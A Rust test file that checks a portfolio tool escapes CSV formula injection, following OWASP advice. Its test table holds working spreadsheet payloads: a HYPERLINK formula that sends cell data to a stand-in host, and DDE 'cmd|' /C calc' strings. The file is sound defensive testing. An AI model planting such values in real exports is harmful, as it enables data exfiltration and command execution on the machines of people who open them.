//! Hardening of `planfolio build` (issue 11, point 1): formula injection in
//! `portfolio.csv`.
//!
//! Expected cells and folder names are written out by hand from the rules
//! (OWASP's CSV injection advice, SPEC §8 and §9), never copied from output.

mod common;
use common::{Site, code, plan_with, stderr, stdout};
use std::path::Path;
use std::process::{Command, Output};

/// `planfolio --root <root> build --out <out> --today 2026-11-23`.
fn build(root: &Path, out: &Path) -> Output {
    Command::new(env!("CARGO_BIN_EXE_planfolio"))
        .env_remove("SOURCE_DATE_EPOCH")
        .env_remove("NO_COLOR")
        .arg("--root")
        .arg(root)
        .arg("build")
        .arg("--out")
        .arg(out)
        .args(["--today", common::TODAY])
        .output()
        .expect("run planfolio build")
}

#[track_caller]
fn assert_built(o: &Output) {
    assert_eq!(
        code(o),
        0,
        "build failed\nstdout:\n{}\nstderr:\n{}",
        stdout(o),
        stderr(o)
    );
}

// ---------------------------------------------------------------------------
// 1. Formula injection in portfolio.csv

/// Plan names a spreadsheet would run as formulas, each as a YAML scalar,
/// with the cell `portfolio.csv` must hold for it: a `'` before the name
/// (OWASP), then the usual CSV quoting (a cell holding `"`, `,`, CR or LF is
/// quoted, its `"` doubled).
const FORMULA_NAMES: &[(&str, &str, &str)] = &[
    (
        "hyperlink",
        r#"'=HYPERLINK("http://x.example/?"&A1,"Click")'"#,
        r#""'=HYPERLINK(""http://x.example/?""&A1,""Click"")""#,
    ),
    ("dde", r#""+cmd|' /C calc'!A0""#, "'+cmd|' /C calc'!A0"),
    ("minus", r#""-2+3+cmd|' /C calc'!A0""#, "'-2+3+cmd|' /C calc'!A0"),
    (
        "at-sum",
        r#""@SUM(1+1)*cmd|' /C calc'!A0""#,
        "'@SUM(1+1)*cmd|' /C calc'!A0",
    ),
    // A TAB needs no CSV quoting; a CR does.
    ("tab", r#""\t=1+1""#, "'\t=1+1"),
    ("cr", r#""\r=1+1""#, "\"'\r=1+1\""),
];

#[test]
fn csv_cells_that_start_a_formula_are_neutralised() {
    let site = Site::with_team();
    for (id, yaml_name, _) in FORMULA_NAMES {
        site.plan(
            id,
            &plan_with(&[("name: Deepwell Solutions", &format!("name: {yaml_name}"))]),
        );
    }
    // A harmless name stays exactly as written.
    site.plan("plain", &plan_with(&[("name: Deepwell Solutions", "name: Plain Name")]));
    let parent = tempfile::tempdir().expect("tempdir");
    let out = parent.path().join("public");
    assert_built(&build(site.root(), &out));
    let csv = std::fs::read_to_string(out.join("portfolio.csv")).expect("portfolio.csv");
    // Column 2 is the name; column 3 the owner (SPEC §9).
    for (id, _, cell) in FORMULA_NAMES {
        let row_start = format!("\n{id},{cell},alex-king,");
        assert!(
            csv.contains(&row_start),
            "row of {id}: expected it to start {row_start:?}; portfolio.csv:\n{csv}"
        );
    }
    assert!(csv.contains("\nplain,Plain Name,alex-king,"), "portfolio.csv:\n{csv}");
}

#[test]
fn csv_negative_numbers_stay_numbers() {
    let site = Site::valid();
    let mut analysis = site.analyse();
    common::assert_no_errors(&analysis);
    // No valid plan yields a negative amount today; set them by hand so the
    // writer is tested on what a future signed figure would look like.
    analysis.portfolio.accounts[0].potential_value = -1234.5;
    analysis.portfolio.accounts[0].weighted_pipeline = -0.25;
    let csv = planfolio::render::portfolio_csv(&analysis);
    let row = csv.lines().nth(1).expect("one account row");
    let cells: Vec<&str> = row.split(',').collect();
    // id,name,owner,segment,relationship,potential,potential_value,weighted_pipeline,...
    assert_eq!(cells[0], "deepwell");
    assert_eq!(cells[6], "-1234.5", "potential_value in {row:?}");
    assert_eq!(cells[7], "-0.25", "weighted_pipeline in {row:?}");
    assert!(!row.contains('\''), "no cell of {row:?} is prefixed");
}
